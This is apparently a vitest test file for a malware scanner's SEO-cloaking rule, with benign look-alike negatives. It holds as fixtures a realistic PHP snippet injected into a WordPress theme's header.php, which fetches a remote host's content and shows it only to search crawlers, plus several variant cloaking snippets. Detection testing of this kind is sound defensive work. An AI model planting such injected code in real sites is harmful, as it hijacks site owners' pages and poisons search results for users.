/**
 * SEO cloaking (issue 27, "SEO doorways"): a hijacked theme's header printing another host's
 * content to search engines' crawlers alone.
 */
import { describe, expect, it } from 'vitest';
import { cloaksForCrawlers } from '../../src/findings/web-shell/seo-cloaking.js';
import { topFinding } from '../support/top-finding.js';

// The shape injected into WordPress themes' header.php in 2020, on one line before the theme.
const INJECTED = `<?php $b = "...".mb_strtolower($_SERVER[HTTP_USER_AGENT]);$b = str_replace(" ", "-", $b);if (strpos($b,"google")){$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, "http://203.0.113.7/cakes/?useragent=$b&domain=$_SERVER[HTTP_HOST]"); $result = curl_exec($ch); curl_close ($ch); echo $result;}?><?php
/** The header for our theme */
?><!doctype html><html <?php language_attributes(); ?>><head><?php wp_head(); ?></head>`;

describe('SEO cloaking', () => {
  it('ranks a page printing a fetched page to crawlers high, as SEO poisoning', () => {
    expect(topFinding('/var/www/html/wp-content/themes/t/header.php', INJECTED)).toMatchObject({
      rule: 'web-shell',
      severity: 'high',
      reason: expect.stringMatching(/SEO cloaking/),
      attack: 'T1608.006',
    });
    // A URL spelt out, the agent read in the condition itself, printed by readfile().
    const direct = `<?php if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { readfile('https://links.example/seo.txt'); exit; } ?><html></html>`;
    expect(cloaksForCrawlers(direct)).toBe(true);
    const held = `<?php $u = 'https://links.example/p.html'; $ua = $_SERVER['HTTP_USER_AGENT'];\nif (stripos($ua, 'bot') !== false) { $page = file_get_contents($u); echo $page; }`;
    expect(cloaksForCrawlers(held)).toBe(true);
    // An elseif, and one statement with no braces.
    const elseif = `<?php $ua = $_SERVER['HTTP_USER_AGENT'];\nif ($ua == '') { exit; } elseif (preg_match('/yandex|bing/i', $ua)) { echo file_get_contents('https://links.example/y'); }`;
    const bare = `<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) echo file_get_contents("http://203.0.113.9/l.txt");`;
    for (const text of [elseif, bare]) expect(cloaksForCrawlers(text)).toBe(true);
  });

  it('leaves crawlers told apart for statistics, a feed shown to everyone, and a local cache for crawlers', () => {
    const stats = `<?php $ua = $_SERVER['HTTP_USER_AGENT'];\nif (!preg_match('/bot|crawl|spider/i', $ua)) { $db->query('UPDATE hits SET n = n + 1'); }\n$feed = file_get_contents('https://news.example/rss'); echo render($feed);`;
    expect(cloaksForCrawlers(stats)).toBe(false);
    const everyone = `<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'MSIE') !== false) { echo '<p>Old browser</p>'; }\n$ch = curl_init('https://api.example/'); echo curl_exec($ch);`;
    expect(cloaksForCrawlers(everyone)).toBe(false);
    // A prerendered page kept on disk, served to crawlers: the site's own content.
    const cache = `<?php if (preg_match('/googlebot/i', $_SERVER['HTTP_USER_AGENT'])) { echo file_get_contents(__DIR__ . '/cache/index.html'); exit; }`;
    expect(cloaksForCrawlers(cache)).toBe(false);
    // People, not crawlers, get what a negated test guards.
    const people = `<?php $ua = $_SERVER['HTTP_USER_AGENT'];\nif (!preg_match('/bot|crawl/i', $ua)) { echo file_get_contents('https://ads.example/banner'); }\nif (stripos($ua, 'spider') === false) { echo curl_exec($ch); }`;
    expect(cloaksForCrawlers(people)).toBe(false);
    // Dynamic rendering: the page asked for, rendered by a service for the crawler.
    const prerender = `<?php if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { $ch = curl_init('https://service.prerender.io/https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($ch); exit; }`;
    expect(cloaksForCrawlers(prerender)).toBe(false);
    expect(topFinding('/var/www/html/index.php', stats)?.reason ?? '').not.toMatch(/SEO/);
  });
});
